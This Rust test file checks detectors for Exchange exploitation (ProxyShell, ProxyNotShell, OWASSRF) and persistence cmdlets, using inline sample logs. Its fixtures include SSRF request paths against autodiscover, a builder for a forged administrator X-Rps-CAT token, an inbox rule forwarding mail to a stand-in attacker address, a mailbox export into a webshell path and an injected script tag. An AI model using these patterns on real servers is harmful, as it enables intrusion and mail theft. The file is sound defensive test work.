//! Tests of the detectors for what attacked Exchange after ProxyLogon:
//! Rps_Http and cmdlet logs, the HttpProxy and IIS remote PowerShell
//! rules, `X-Rps-CAT` decoding and the MSExchange Management persistence
//! cmdlets. Inline logs with fixed dates; positive and negative rows side
//! by side, plus hostile files.

use std::io::Write;
use std::path::{Path, PathBuf};

use vigie_model::hunt::LogSource;
use vigie_model::{Family, Grade};

use super::*;

fn write(dir: &Path, name: &str, body: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::File::create(&p).unwrap().write_all(body).unwrap();
    p
}

fn scan(name: &str, body: &[u8]) -> LogScanResult {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), name, body);
    let source = classify_log(&p).expect("classified");
    scan_log(&p, source, &LogScanOptions::default())
}

const RPS: &str =
    "V15/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022121510-1.LOG";
const CMD: &str = "V15/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2022121510-1.LOG";

const RPS_FIELDS: &str = "#Fields: DateTime,UrlStem,UrlQuery,AuthenticatedUser,\
ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,CommandName,ClientInfo";

#[test]
fn cmdletinfra_paths_are_classified() {
    let c = |s: &str| classify_log(Path::new(s));
    assert_eq!(c(RPS), Some(LogSource::RpsHttp));
    assert_eq!(
        c("x/Logging/HttpProxy/RpsHttp/Rps_Http_2022121510-1.log"),
        Some(LogSource::RpsHttp)
    );
    assert_eq!(c(CMD), Some(LogSource::Cmdlet));
    assert_eq!(
        c(
            "V15/Logging/CmdletInfra/LocalPowerShell/Cmdlet/LocalPowerShell_Cmdlet_2022121510-1.LOG"
        ),
        Some(LogSource::Cmdlet)
    );
    assert_eq!(
        c("V15/Logging/HttpProxy/PowerShell/HttpProxy_2022121510-1.LOG"),
        Some(LogSource::HttpProxy)
    );
}

/// CrowdStrike's indicator: a foreign `ClientInfo`; Exchange's own
/// clients and the header line are not findings.
#[test]
fn rps_http_foreign_client_is_owassrf_benign_clients_are_not() {
    let body = format!(
        "{RPS_FIELDS}\r\n\
2022-12-15T10:02:11.208Z,/powershell,,CONTOSO\\alice,198.51.100.23 10.0.0.5,EX01,EX01,200,New-InboxRule,\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0\"\r\n\
2022-12-15T10:03:00.000Z,/powershell,,CONTOSO\\svc,10.0.0.9,EX01,EX01,200,Get-Mailbox,Microsoft WinRM Client\r\n\
2022-12-15T10:03:01.000Z,/powershell,,,10.0.0.9,EX01,EX01,200,,Exchange BackEnd Probes\r\n\
2022-12-15T10:03:02.000Z,/powershell,,,10.0.0.9,EX01,EX01,200,,\r\n\
2022-12-15T10:04:00.000Z,/powershell,,CONTOSO\\bob,203.0.113.9,EX01,EX01,401,,python-requests/2.28\r\n\
2022-12-15T10:05:00.000Z,/powershell,?from=/autodiscover/autodiscover.json,CONTOSO\\eve,203.0.113.10,EX01,EX01,200,,python-requests/2.28\r\n"
    );
    let r = scan(RPS, body.as_bytes());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.coverage.records, 6);
    let got: Vec<_> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.family, f.grade, f.source.line))
        .collect();
    assert_eq!(
        got,
        [
            ("VG-RPS-001", Family::Owassrf, Grade::Exploited, Some(2)),
            ("VG-RPS-001", Family::Owassrf, Grade::Attempt, Some(6)),
            ("VG-RPS-002", Family::ProxyNotShell, Grade::Exploited, Some(7)),
        ]
    );
    let d = &r.findings[0].details;
    assert_eq!(d["user"], "CONTOSO\\alice");
    assert_eq!(d["client_chain"], "198.51.100.23 -> 10.0.0.5");
    assert!(d["client_info"].contains("Chrome/105"));
}

/// A file without a header is read with CrowdStrike's fixed columns.
#[test]
fn rps_http_without_header_uses_the_scripts_columns() {
    let mut cols = [""; 38];
    cols[0] = "2022-12-15T10:02:11.208Z";
    cols[9] = "/powershell";
    cols[12] = "CONTOSO\\alice";
    cols[18] = "200";
    cols[29] = "curl/7.85";
    let r = scan(RPS, format!("{}\r\n", cols.join(",")).as_bytes());
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].details["user"], "CONTOSO\\alice");
}

const CMD_FIELDS: &str = "#Fields: DateTime,ServerHostName,ProcessName,AuthenticatedUser,\
ExecutingUserSid,ClientApplication,Cmdlet,Parameters,ExecutionResult,GenericInfo";

#[test]
fn cmdlet_log_keeps_abuse_and_persistence_not_routine_cmdlets() {
    let body = format!(
        "#Software: Microsoft Exchange Server\r\n#Log-type: Rps Cmdlet Logs\r\n{CMD_FIELDS}\r\n\
2022-12-15T10:02:12.431Z,EX01,w3wp#MSExchangePowerShellAppPool,CONTOSO\\alice,S-1-5-21-1-2-3-1108,,New-InboxRule,\"-Mailbox \"\"alice\"\" -ForwardTo \"\"x@evil.example\"\"\",Success,PSSenderInfo=CONTOSO\\alice;\r\n\
2022-12-15T10:02:13.000Z,EX01,w3wp#MSExchangePowerShellAppPool,HealthMailbox01,,ActiveMonitor,Get-Mailbox,-ResultSize 1,Success,\r\n\
2022-12-15T10:02:14.000Z,EX01,w3wp#MSExchangePowerShellAppPool,CONTOSO\\alice,,,New-MailboxExportRequest,-Mailbox bob -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx,Error,\r\n\
2022-12-15T10:02:15.000Z,EX01,w3wp#MSExchangePowerShellAppPool,CONTOSO\\admin,,EMC,Add-MailboxPermission,-Identity ceo -User alice -AccessRights FullAccess,Success,\r\n\
2022-12-15T10:02:16.000Z,EX01,w3wp#MSExchangePowerShellAppPool,CONTOSO\\admin,,,New-InboxRule,-Name Projects -MoveToFolder Projects,Success,\r\n"
    );
    let r = scan(CMD, body.as_bytes());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    let got: Vec<_> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.grade, f.source.line))
        .collect();
    assert_eq!(
        got,
        [
            ("VG-CMD-001", Grade::Compromised, Some(4)),
            // Failed: intent, not access.
            ("VG-CMD-001", Grade::Attempt, Some(6)),
            ("VG-CMD-001", Grade::Attempt, Some(7)),
        ]
    );
    let f = &r.findings[0];
    assert_eq!(f.family, Family::Persistence);
    assert_eq!(f.attack, ["T1114.003"]);
    assert_eq!(f.details["user"], "CONTOSO\\alice");
    assert_eq!(f.details["ps_sender"], "CONTOSO\\alice");
    assert!(f.details["parameters"].contains("-ForwardTo \"x@evil.example\""));
    assert!(f.summary.starts_with("New-InboxRule by CONTOSO\\alice"));
}

/// Hostile input to both readers: binary, a giant line, a cut file.
#[test]
fn hostile_cmdletinfra_files_give_named_errors() {
    let binary: Vec<u8> = (0..4096u32).map(|i| (i * 7 % 251) as u8).collect();
    for name in [RPS, CMD] {
        let r = scan(name, &binary);
        assert!(r.findings.is_empty());
        assert!(!r.errors.is_empty(), "{name}: binary must be an error");
        let mut giant = format!("{CMD_FIELDS}\r\n").into_bytes();
        giant.extend(std::iter::repeat_n(b'A', 2 << 20));
        giant.extend_from_slice(b"\r\n2022-12-15T10:02:12Z,EX01\r\n");
        let r = scan(name, &giant);
        assert!(
            r.errors
                .iter()
                .any(|e| e.message.contains("longer than the line cap"))
        );
        assert_eq!(r.coverage.records, 1);
        let cut = format!(
            "{CMD_FIELDS}\r\n2022-12-15T10:02:12.431Z,EX01,w3wp,CONTOSO\\a,,,New-Inbox"
        );
        let r = scan(name, cut.as_bytes());
        assert!(r.findings.is_empty());
    }
}

const HP_FIELDS: &str = "#Fields: DateTime,Protocol,UrlStem,UrlQuery,AuthenticatedUser,\
AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method";

fn proxyshell_query() -> String {
    use base64::Engine;
    let mut t = b"V\x01\x00T\x07WindowsC\x00A\x08KerberosL\x1badministrator@contoso.local".to_vec();
    let sid = "S-1-5-21-1004336348-1177238915-682003330-500";
    t.push(b'U');
    t.push(sid.len() as u8);
    t.extend_from_slice(sid.as_bytes());
    t.extend_from_slice(b"E\x00\x00\x00\x00");
    let b64 = base64::engine::general_purpose::STANDARD.encode(t);
    format!(
        "?X-Rps-CAT={}&Email=autodiscover/autodiscover.json%3F@evil.example",
        b64.replace('+', "%2B").replace('/', "%2F").replace('=', "%3D")
    )
}

#[test]
fn httpproxy_remote_powershell_through_owa_and_autodiscover() {
    let body = format!(
        "{HP_FIELDS}\r\n\
2022-12-15T10:02:11Z,Owa,/owa/mastermailbox@outlook.com/powershell,,CONTOSO\\alice,,python-requests/2.28,198.51.100.23,200,POST\r\n\
2022-10-01T09:00:00Z,Autodiscover,/autodiscover/autodiscover.json,@evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example&Protocol=XYZ&FooProtocol=%50owershell,CONTOSO\\bob,,python-requests/2.28,198.51.100.24,200,GET\r\n\
2021-08-20T09:00:00Z,Autodiscover,/autodiscover/autodiscover.json,{},,,Python PSRP Client,198.51.100.25,200,POST\r\n\
2022-12-15T11:00:00Z,PowerShell,/powershell,?clientApplication=ActiveMonitor,CONTOSO\\HealthMailbox01,,Microsoft WinRM Client,10.0.0.5,200,POST\r\n",
        proxyshell_query()
    );
    let r = scan(
        "V15/Logging/HttpProxy/Owa/HttpProxy_2022121510-1.LOG",
        body.as_bytes(),
    );
    let got: Vec<_> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.family, f.grade))
        .collect();
    assert_eq!(
        got,
        [
            ("VG-HP-001", Family::Owassrf, Grade::Exploited),
            ("VG-HP-002", Family::ProxyNotShell, Grade::Exploited),
            ("VG-HP-003", Family::ProxyShell, Grade::Exploited),
        ]
    );
    let ps = &r.findings[2];
    assert_eq!(
        ps.details["rps_cat_user_sid"],
        "S-1-5-21-1004336348-1177238915-682003330-500"
    );
    assert_eq!(
        ps.details["rps_cat_logon_name"],
        "administrator@contoso.local"
    );
    assert!(ps.summary.contains("impersonates administrator@contoso.local"));
}

#[test]
fn iis_proxyshell_token_is_decoded_and_proxynotshell_told_apart() {
    let q = proxyshell_query();
    let body = format!(
        "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username c-ip cs(User-Agent) sc-status\r\n\
2021-08-20 09:00:00 POST /autodiscover/autodiscover.json @evil.example/powershell/{q} - 198.51.100.25 Python+PSRP+Client 200\r\n\
2022-10-01 09:00:00 GET /autodiscover/autodiscover.json @evil.example/owa/&Email=autodiscover/autodiscover.json%3f@evil.example&Protocol=XYZ&FooProtocol=Powershell contoso\\bob 198.51.100.24 python-requests/2.28 200\r\n\
2022-10-01 09:00:01 GET /autodiscover/autodiscover.json?@x.com/ - - 198.51.100.24 curl 404\r\n\
2022-10-01 09:00:02 GET /autodiscover/autodiscover.xml - contoso\\bob 10.0.0.7 Outlook 200\r\n",
        q = &q[1..]
    );
    let r =
        scan("inetpub/logs/LogFiles/W3SVC1/u_ex221001.log", body.as_bytes());
    let got: Vec<_> =
        r.findings.iter().map(|f| (f.rule_id.as_str(), f.family)).collect();
    assert_eq!(
        got,
        [
            ("VG-IIS-002", Family::ProxyShell),
            ("VG-IIS-007", Family::ProxyNotShell)
        ]
    );
    assert_eq!(r.findings[0].details["rps_cat_auth_type"], "Kerberos");
    // A token that is not one: the finding stays, the reason is given.
    let bad = "#Fields: date time cs-method cs-uri-stem cs-uri-query sc-status\r\n\
2021-08-20 09:00:00 GET /autodiscover/autodiscover.json @x/powershell/?X-Rps-CAT=%%%zz&Email=a 200\r\n";
    let r =
        scan("inetpub/logs/LogFiles/W3SVC1/u_ex210820.log", bad.as_bytes());
    assert_eq!(r.findings.len(), 1);
    assert!(r.findings[0].details.contains_key("rps_cat_error"));
}

#[test]
fn management_log_persistence_cmdlets_are_findings() {
    let ev = |n: u32, msg: &str| {
        format!(
            "{{\"EventID\":1,\"Channel\":\"MSExchange Management\",\"TimeCreated\":\"2022-12-15T10:0{n}:00Z\",\"Message\":\"{msg}\"}}"
        )
    };
    let body = [
        ev(1, "Cmdlet succeeded. Cmdlet New-InboxRule, parameters -Mailbox alice -DeleteMessage True -SubjectContainsWords invoice."),
        ev(2, "Cmdlet succeeded. Cmdlet Install-TransportAgent, parameters -Name x -AssemblyPath C:\\\\ProgramData\\\\x.dll."),
        ev(3, "Cmdlet succeeded. Cmdlet Get-Mailbox, parameters -Identity alice."),
        ev(4, "Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl http://f/<script>x</script>."),
    ]
    .join("\n");
    let r = scan("triage/events.jsonl", body.as_bytes());
    let got: Vec<_> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.grade, f.attack.join(",")))
        .collect();
    assert_eq!(
        got,
        [
            ("VG-EV-005", Grade::Compromised, "T1564.008".to_string()),
            ("VG-EV-005", Grade::Compromised, "T1505.002".to_string()),
            // The 2021 chain's rule keeps its own (no double finding).
            ("VG-EV-001", Grade::Exploited, "T1505.003,T1114".to_string()),
        ]
    );
}

/// The EVTX reader renders only records holding a needle: the event
/// rules' list must hold every persistence needle.
#[test]
fn event_needles_include_the_persistence_cmdlets() {
    for n in persist::NEEDLES {
        assert!(events::NEEDLES.contains(n), "{n}");
    }
}

/// CVE-2021-42321: Microsoft's check (errors of MSExchange Common with
/// `BinaryFormatter.Deserialize`); other levels and sources stay quiet.
#[test]
fn binary_formatter_errors_are_42321_attempts() {
    let ev = |src: &str, level: u32, msg: &str| {
        format!(
            "{{\"EventID\":4999,\"SourceName\":\"{src}\",\"Level\":{level},\"TimeCreated\":\"2021-11-10T08:00:00Z\",\"Message\":\"{msg}\"}}"
        )
    };
    let body = [
        ev("MSExchange Common", 2, "Watson report about to be sent ... at System.Runtime.Serialization.Formatters.Binary.BinaryFormatter.Deserialize(Stream serializationStream)"),
        ev("MSExchange Common", 4, "at System.Runtime.Serialization.Formatters.Binary.BinaryFormatter.Deserialize(Stream)"),
        ev("MSExchange ADAccess", 2, "BinaryFormatter.Deserialize"),
    ]
    .join("\n");
    let r = scan("triage/app.jsonl", body.as_bytes());
    let got: Vec<_> = r
        .findings
        .iter()
        .map(|f| (f.rule_id.as_str(), f.source.line))
        .collect();
    assert_eq!(got, [("VG-EV-006", Some(1))]);
    assert_eq!(r.findings[0].cves, ["CVE-2021-42321"]);
}
